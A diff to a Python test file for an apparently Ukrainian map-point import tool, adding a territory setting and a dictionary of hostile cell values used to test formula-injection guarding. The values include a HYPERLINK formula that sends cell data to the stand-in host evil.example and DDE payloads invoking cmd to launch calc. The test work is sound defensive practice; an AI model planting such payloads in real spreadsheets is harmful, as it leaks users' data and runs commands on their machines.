@@ -17,19 +17,21 @@ from hypothesis import strategies as st
 
 from locator.io.features import FORMULA_STARTS, guard_cell, unguard_cell
 from locator.io.files import ImportLimits, read_points
+from locator.search.regions import Territory
 
 HOSTILE = {  # field -> text an attacker (or a careless partner) could store in a point
     "name": '=HYPERLINK("http://evil.example/?"&A1,"Пункт")',
     "address": "+1+cmd|' /C calc'!A0",
     "settlement": "-2+3",
-    "region": "@SUM(1+1)*cmd|' /C calc'!A0",
+    # No region: a write takes only one of the regions' public names (issue 16), so none holds this.
     "phone": "+380 44 123 45 67",
     "hours": "'=already guarded by someone",
     "note": "''two apostrophes, then text",
 }
 HARMLESS = {"name": "'Сонечко' кафе", "note": "Працює з 8:00 - до 20:00", "hours": "цілодобово"}
 LONDON = (51.5072, -0.1276)  # a negative longitude: a number, never guarded
-WORLD = ImportLimits(bounds=(-180.0, -90.0, 180.0, 90.0))  # the import's default keeps to Ukraine
+# The import's default keeps to Ukraine.
+WORLD = ImportLimits(territory=Territory((-180.0, -90.0, 180.0, 90.0)))
 
 
 @pytest.fixture
